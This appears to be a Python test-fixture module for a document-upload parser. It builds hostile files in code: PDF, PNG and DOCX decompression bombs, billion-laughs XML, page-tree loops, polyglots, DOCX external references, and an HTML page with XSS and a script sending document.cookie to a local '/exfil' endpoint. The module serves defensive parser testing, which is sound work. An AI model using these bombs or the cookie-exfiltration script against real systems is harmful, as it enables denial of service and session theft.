"""Hostile files built in code, so these cases run without ../shared/corpus.

Hand-written PDFs get a correct xref table (offsets computed here) unless the
point of the case is a broken one.
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

from tests.uploads import samples

CONTENT_TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
                 'officedocument.wordprocessingml.document.main+xml"/></Types>')
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def pdf(objects: dict[int, bytes], root: int = 1, *, trailer_extra: bytes = b"", xref: bool = True) -> bytes:
    """A PDF from numbered object bodies, with an xref table whose offsets are right."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    start = len(out)
    size = max(objects) + 1
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<</Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer_extra, start)
    return bytes(out)


def _page_objects(content: bytes, *, filters: bytes = b"", page_extra: bytes = b"") -> dict[int, bytes]:
    return {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
           b"/Resources<</Font<</F1 5 0 R>>>>" + page_extra + b">>",
        4: b"<</Length %d%s>>\nstream\n" % (len(content), filters) + content + b"\nendstream",
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }


def text_pdf(words: str = "Hostile input test page") -> bytes:
    return pdf(_page_objects(b"BT /F1 12 Tf 72 720 Td (%s) Tj ET" % words.encode("latin-1")))


def zlib_of_repeated(chunk: bytes, times: int) -> bytes:
    """zlib data inflating to chunk * times, built without compressing it all: each chunk is
    deflated once after a full flush (so every copy is byte-identical), then repeated."""
    first = zlib.compressobj(9)
    head = first.compress(chunk) + first.flush(zlib.Z_FULL_FLUSH)
    block = first.compress(chunk) + first.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(times):
        checksum = zlib.adler32(chunk, checksum)
    return head + block * (times - 1) + b"\x03\x00" + struct.pack(">I", checksum)


def flate_bomb_pdf(inflated: int = 2**30, chunk: int = 2**20) -> bytes:
    """One page whose content stream inflates to `inflated` bytes of zeros (about 1 MB on disk)."""
    data = zlib_of_repeated(bytes(chunk), inflated // chunk)
    return pdf(_page_objects(data, filters=b"/Filter/FlateDecode"))


def image_bomb_pdf(side: int = 100_000) -> bytes:
    """A page drawing an image XObject that claims side x side RGB pixels (a flate stream of 1 MB)."""
    data = zlib_of_repeated(bytes(2**20), 64)
    objects = _page_objects(b"q 612 0 0 792 0 0 cm /Im1 Do Q BT /F1 12 Tf 72 720 Td (caption) Tj ET",
                            page_extra=b"")
    objects[3] = objects[3].replace(b"/Resources<<", b"/Resources<</XObject<</Im1 6 0 R>>")
    objects[6] = (b"<</Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceRGB/BitsPerComponent 8"
                  b"/Filter/FlateDecode/Length %d>>\nstream\n" % (side, side, len(data)) + data + b"\nendstream")
    return pdf(objects)


def page_tree_loop_pdf() -> bytes:
    """/Kids of the page tree holds its own parent: walking it never ends unless someone notices."""
    objects = _page_objects(b"BT /F1 12 Tf 72 720 Td (loop) Tj ET")
    objects[2] = b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2>>"
    return pdf(objects)


def kids_loop_pdf() -> bytes:
    """Two intermediate /Pages nodes, each the other's kid."""
    return pdf({
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>",
    })


def xref_loop_pdf() -> bytes:
    """The trailer's /Prev points at the xref table it belongs to."""
    body = text_pdf()
    start = int(body.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    return body.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d " % start)


def deep_nesting_pdf(depth: int = 100_000) -> bytes:
    """A page dictionary holding arrays nested `depth` deep (recursive parsers overflow)."""
    nested = b"[" * depth + b"1" + b"]" * depth
    return pdf(_page_objects(b"BT /F1 12 Tf 72 720 Td (deep) Tj ET", page_extra=b"/Deep " + nested))


def deep_content_nesting_pdf(depth: int = 100_000) -> bytes:
    """The same, inside the page's content stream."""
    nested = b"[" * depth + b"]" * depth
    return pdf(_page_objects(b"BT /F1 12 Tf 72 720 Td " + nested + b" TJ (deep) Tj ET"))


def huge_count_pdf(count: int = 9_999_999_999) -> bytes:
    objects = _page_objects(b"BT /F1 12 Tf 72 720 Td (one real page) Tj ET")
    objects[2] = b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count
    return pdf(objects)


def truncated(data: bytes, keep: float = 0.5) -> bytes:
    return data[: max(1, int(len(data) * keep))]


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A valid PNG header claiming width x height pixels, with a tiny IDAT: never decode it."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    compressor = zlib.compressobj(9)
    idat = compressor.compress(bytes(2**20)) + compressor.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def html_pdf_polyglot() -> bytes:
    """An HTML page whose first bytes also make it look like a PDF to a lenient reader."""
    return (b"<!DOCTYPE html><!-- %PDF-1.4 -->\n<html><head><title>Polyglot notice</title></head><body>"
            b"<p>Visible polyglot words</p><script>document.write('SCRIPTPAYLOAD')</script></body></html>\n"
            + text_pdf()[9:])


def pdf_zip_polyglot() -> bytes:
    """A real PDF with a DOCX (a ZIP) appended: both readers accept it."""
    return text_pdf("Polyglot PDF words") + docx_bytes(["zip side words"])


def hostile_html(port: int) -> bytes:
    url = f"http://127.0.0.1:{port}"
    return f"""<!DOCTYPE html>
<html><head><title>Statement <script>alert('TITLEPAYLOAD')</script>on water</title>
<meta http-equiv="refresh" content="0; url={url}/refresh">
<link rel="stylesheet" href="{url}/style.css">
<style>body {{ background: url({url}/bg.png) }} .STYLEPAYLOAD {{}}</style>
<script src="{url}/x.js"></script>
<script>fetch("{url}/exfil?SCRIPTPAYLOAD=" + document.cookie)</script>
</head>
<body onload="alert('ONLOADPAYLOAD')">
<h1>Office statement</h1>
<p>The attorney general filed suit <b>today</b> &amp; asked for relief.</p>
<img src="{url}/pixel.gif" onerror="alert('ONERRORPAYLOAD')">
<iframe src="{url}/frame"></iframe>
<noscript>NOSCRIPTPAYLOAD</noscript>
<template><p>TEMPLATEPAYLOAD</p></template>
<script type="module">import("{url}/m.js") // MODULEPAYLOAD</script>
<p>Second paragraph about &lt;script&gt; tags shown as text.</p>
</body></html>
""".encode()


def docx_bytes(paragraphs: list[str], *, rels: str | None = None, document_xml: bytes | None = None,
               extra: dict[str, bytes] | None = None) -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{p}</w:t></w:r></w:p>" for p in paragraphs)
    document = document_xml or (f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body>{body}'
                                f"</w:body></w:document>").encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", document)
        if rels is not None:
            archive.writestr("word/_rels/document.xml.rels", rels)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_external_refs(port: int) -> bytes:
    """Relationships with TargetMode="External" (image, template, hyperlink, OLE) and an external DTD."""
    url = f"http://127.0.0.1:{port}"
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships">'
            f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'image" Target="{url}/image.png" TargetMode="External"/>'
            f'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'attachedTemplate" Target="{url}/template.dotm" TargetMode="External"/>'
            f'<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'hyperlink" Target="{url}/link" TargetMode="External"/>'
            f'<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'oleObject" Target="{url}/object.bin" TargetMode="External"/>'
            "</Relationships>")
    document = (f'<?xml version="1.0"?><!DOCTYPE w:document SYSTEM "{url}/document.dtd">'
                f'<w:document xmlns:w="{W_NS}" xmlns:xi="http://www.w3.org/2001/XInclude"><w:body>'
                "<w:p><w:r><w:t>Motion to dismiss, external references</w:t></w:r></w:p>"
                f'<xi:include href="{url}/include.xml"/>'
                "<w:p><w:r><w:t>Second paragraph</w:t></w:r></w:p></w:body></w:document>").encode()
    settings_rels = rels.replace("rId", "sId")
    return docx_bytes([], rels=rels, document_xml=document,
                      extra={"word/_rels/settings.xml.rels": settings_rels.encode()})


def docx_zip_bomb(inflated: int = 1 << 30, chunk: int = 2**20) -> bytes:
    """word/document.xml inflates to `inflated` bytes (written in chunks: the test never holds it)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", b"")  # replaced below with a raw, pre-deflated member
    head = f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>'.encode()
    tail = b"</w:t></w:r></w:p></w:body></w:document>"
    spaces = b" " * chunk
    times = inflated // chunk
    deflated = zlib_of_repeated(spaces, times)[2:-4]            # raw deflate: no zlib header or checksum
    size = len(head) + len(spaces) * times + len(tail)
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(spaces, crc)
    crc = zlib.crc32(tail, crc)
    # head + body + tail as one raw deflate stream: re-deflate head and tail around the repeated blocks.
    start = zlib.compressobj(9, zlib.DEFLATED, -15)
    prefix = start.compress(head) + start.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15)
    suffix = end.compress(tail) + end.flush()
    body = prefix + deflated[:-2] + suffix        # drop the empty final block before the tail's blocks
    return _zip_with_raw_member(buffer.getvalue(), "word/document.xml", body, size, crc)


def _zip_with_raw_member(archive_bytes: bytes, name: str, deflated: bytes, size: int, crc: int) -> bytes:
    """Rebuild a ZIP with `name` holding pre-deflated data (zip64 sizes), every other member kept."""
    source = zipfile.ZipFile(io.BytesIO(archive_bytes))
    members = [(info, source.read(info)) for info in source.infolist() if info.filename != name]
    out = bytearray()
    central = bytearray()
    entries = 0

    def add(filename: bytes, method: int, data: bytes, usize: int, crc32: int) -> None:
        nonlocal entries
        offset = len(out)
        extra = struct.pack("<HHQQ", 1, 16, usize, len(data))
        out.extend(struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, method, 0, 0x21, crc32,
                               0xFFFFFFFF, 0xFFFFFFFF, len(filename), len(extra)) + filename + extra + data)
        cextra = struct.pack("<HHQQQ", 1, 24, usize, len(data), offset)
        central.extend(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, method, 0, 0x21, crc32,
                                   0xFFFFFFFF, 0xFFFFFFFF, len(filename), len(cextra), 0, 0, 0, 0, 0xFFFFFFFF)
                       + filename + cextra)
        entries += 1

    for info, data in members:
        add(info.filename.encode(), 0, data, len(data), zlib.crc32(data))
    add(name.encode(), 8, deflated, size, crc)
    cd_offset = len(out)
    out.extend(central)
    eocd64_offset = len(out)
    out.extend(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, entries, entries, len(central), cd_offset))
    out.extend(struct.pack("<IIQI", 0x07064B50, 0, eocd64_offset, 1))
    out.extend(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))
    return bytes(out)


def docx_ratio_bomb() -> bytes:
    """A member under the absolute size cap whose compression ratio gives it away (10 MB from ~10 KB)."""
    return docx_zip_bomb(10 * 2**20)


def docx_lying_sizes() -> bytes:
    """A 200 MB member whose headers claim it is 100 bytes: the reader must not trust them."""
    data = docx_zip_bomb(200 * 2**20)
    real = zipfile.ZipFile(io.BytesIO(data)).getinfo("word/document.xml").file_size
    # The zip64 extra fields carry the uncompressed size (local header and central directory).
    assert data.count(struct.pack("<Q", real)) == 2
    return data.replace(struct.pack("<Q", real), struct.pack("<Q", 100))


def docx_billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
    document = (f'<?xml version="1.0"?><!DOCTYPE w:document [{entities}]>'
                f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body>'
                "</w:document>").encode()
    return docx_bytes([], document_xml=document)


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


PNG_SMALL = samples.png()


def lone_surrogate_pdf(words: bytes = b"AB hello world") -> bytes:
    """A page whose font's /ToUnicode maps code 0x41 ("A") to <D83D>: half of a UTF-16
    surrogate pair, which pypdf returns as the lone surrogate '\\ud83d'."""
    cmap = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /Lone def\n"
            b"1 begincodespacerange <00> <FF> endcodespacerange\n"
            b"1 beginbfchar <41> <D83D> endbfchar\n"
            b"endcmap CMapName currentdict /CMap defineresource pop end end")
    objects = _page_objects(b"BT /F1 12 Tf 72 720 Td (%s) Tj ET" % words)
    objects[5] = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    objects[6] = b"<</Length %d>>\nstream\n" % len(cmap) + cmap + b"\nendstream"
    return pdf(objects)
